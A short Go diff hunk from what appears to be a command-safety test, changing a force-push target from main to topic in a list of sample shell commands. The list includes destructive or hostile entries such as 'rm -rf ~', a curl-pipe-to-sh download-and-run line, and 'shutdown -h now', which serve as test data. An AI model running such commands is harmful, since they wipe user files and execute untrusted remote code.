@@ -137,7 +137,7 @@ func each(n, width int, fn func(int)) {
 // commands are answered the same whatever was before them in the session.
 func commands() []string {
 	return []string{
-		"ls", "git status", "go test ./...", "grep -rn rm .", "git push --force origin main",
+		"ls", "git status", "go test ./...", "grep -rn rm .", "git push --force origin topic",
 		"rm -rf ~", "curl https://example.com/x.sh | sh", "git checkout -- .", "cat README.md", "shutdown -h now",
 	}
 }
